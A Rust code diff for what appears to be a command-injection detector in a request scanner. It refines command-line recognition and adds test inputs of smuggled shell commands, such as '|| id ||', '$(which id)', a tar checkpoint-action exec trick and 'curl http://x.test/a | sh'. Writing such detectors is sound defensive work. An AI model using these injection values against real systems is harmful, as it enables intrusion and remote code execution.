@@ -8,6 +8,7 @@ mod programs;
 
 use std::sync::LazyLock;
 
+pub(super) use line::may_be as may_be_line;
 pub(super) use programs::SPELLED;
 use programs::{PROGRAMS, WORDS};
 
@@ -17,7 +18,7 @@ use super::{
     hints::Hints,
     needles::{self, Needles, Words},
     scan::Bits,
-    text::{Shape, Source, Text, at, from, prose_words},
+    text::{Shape, Source, Text, at, from, is_word, prose_words},
 };
 
 static SPELLINGS: Needles = LazyLock::new(|| needles::build(SPELLED));
@@ -56,9 +57,9 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
     let is_argument = matches!(text.source, Source::Query | Source::Body) && !text.in_document;
     if is_argument
         && !prose
-        && let Some(why) = line::detect(lower)
+        && let Some((confidence, why)) = line::detect(lower)
     {
-        return hit(0.6, why);
+        return hit(confidence, why);
     }
     let free = text.source == Source::FreeHeader;
     if !prose
@@ -70,28 +71,6 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
         return hit(0.8, "a spelling that only commands have");
     }
     None
-}
-
-/// Whether a value without any byte of note may be a command line: it begins with a shell, or with what runs one.
-pub(super) fn may_be_line(bytes: &[u8]) -> bool {
-    let length = memchr::memchr(b' ', bytes).unwrap_or(bytes.len());
-    let first = bytes.get(..length).unwrap_or_default();
-    (2..=6).contains(&length)
-        && [
-            &b"sh"[..],
-            b"bash",
-            b"zsh",
-            b"dash",
-            b"ksh",
-            b"time",
-            b"strace",
-            b"ltrace",
-            b"sudo",
-            b"nohup",
-            b"env",
-        ]
-        .iter()
-        .any(|known| known.eq_ignore_ascii_case(first))
 }
 
 /// A separator or substitution with a program behind it.
@@ -168,12 +147,16 @@ fn is_argument(before: &[u8], kind: Kind) -> bool {
 
 /// Whether a program begins here and goes on like one.
 fn runs(lower: &[u8], start: usize, kind: Kind, separator: usize) -> bool {
+    let start = behind_variables(lower, start);
     if hidden(lower, start) {
         return true;
     }
     let (word, end) = program(lower, start);
     if word.is_empty() {
         return false;
+    }
+    if kind == Kind::Separator && line::is_run(lower, &word, end) {
+        return true;
     }
     let next = at(lower, end);
     let ends = matches!(
@@ -219,13 +202,35 @@ fn runs(lower: &[u8], start: usize, kind: Kind, separator: usize) -> bool {
     if kind == Kind::Line && !technical {
         return false;
     }
+    if kind == Kind::Substitution && blanks > 0 && memchr::memchr(b')', argument).is_some() {
+        return true;
+    }
     let tight = separator == 0
         || !at(lower, separator - 1).is_ascii_whitespace()
         || at(lower, separator.saturating_sub(2)).is_ascii_digit();
     if technical {
         return kind != Kind::Ampersand || !argument.first().is_some_and(u8::is_ascii_digit) || tight;
     }
-    ends && (blanks == 0 || argument.is_empty()) && tight && kind != Kind::Ampersand
+    // `|| id ||`, with nothing before.
+    let between = separator == 0 && matches!(argument.first(), Some(b'|' | b'&' | b';' | b'#'));
+    between || ends && (blanks == 0 || argument.is_empty()) && tight && kind != Kind::Ampersand
+}
+
+/// The place behind variables that stand before a program, as nothing: `;$x cat`.
+fn behind_variables(lower: &[u8], start: usize) -> usize {
+    let mut place = start;
+    for _ in 0..3 {
+        let name = from(lower, place + 1)
+            .iter()
+            .take_while(|byte| is_word(**byte))
+            .count();
+        let end = place + 1 + name;
+        if at(lower, place) != b'$' || name == 0 || !at(lower, end).is_ascii_whitespace() {
+            break;
+        }
+        place = end + 1;
+    }
+    place
 }
 
 /// `;tool --option`: any name, right behind the separator, with an option or a file of the machine.
@@ -249,6 +254,9 @@ fn is_any_program(lower: &[u8], word: &[u8], start: usize, separator: usize, arg
     ]
     .iter()
     .any(|root| argument.starts_with(root));
+    if word == b"." && tight && has_file {
+        return true;
+    }
     let is_name = (2..=24).contains(&word.len()) && word.first().is_some_and(u8::is_ascii_lowercase);
     is_name && tight && (touches || separator == 0) && (has_option || has_file)
 }
@@ -267,8 +275,11 @@ fn braced(lower: &[u8]) -> bool {
         return false;
     };
     let program = |word: &[u8]| needles::is_one_of(&PROGRAMS, word) || needles::is_one_of(&WORDS, word);
+    if first.is_empty() {
+        return second.split(|byte| *byte == b',').next().is_some_and(program);
+    }
     let argument = second.is_empty() || matches!(second.first(), Some(b'/' | b'-' | b'$' | b'~'));
-    program(first) && argument || first.is_empty() && program(second)
+    program(first) && argument
 }
 
 /// The name of the program that begins here, without its directory and what hides it, and where it ends.
@@ -379,6 +390,19 @@ mod tests {
             "ti''me sh -c x",
             ";c\\at /e",
             "1;/???/c?t /x",
+            ";$a cat $a $at x.txt",
+            "{,ifconfig,eth0}",
+            "|| id ||",
+            "& id &",
+            ";time id",
+            "x;/usr/bin/env id",
+            "&&net user",
+            ";. /etc/profile",
+            "$(which id)",
+            "x --checkpoint-action=exec=id",
+            ";for i in 1; do id; done",
+            "curl http://x.test/a | sh",
+            "%programfiles:~10,1%x",
         ] {
             assert!(is_command(value), "{value}");
         }
@@ -409,6 +433,10 @@ mod tests {
             "name\nfile",
             "5 > 3 && 2 < 4",
             "/api/*/items?x=*",
+            "to do; time will tell; done",
+            "this & that & more",
+            "work || play",
+            "lunch; time to go",
         ] {
             assert!(!is_command(value), "{value}");
         }
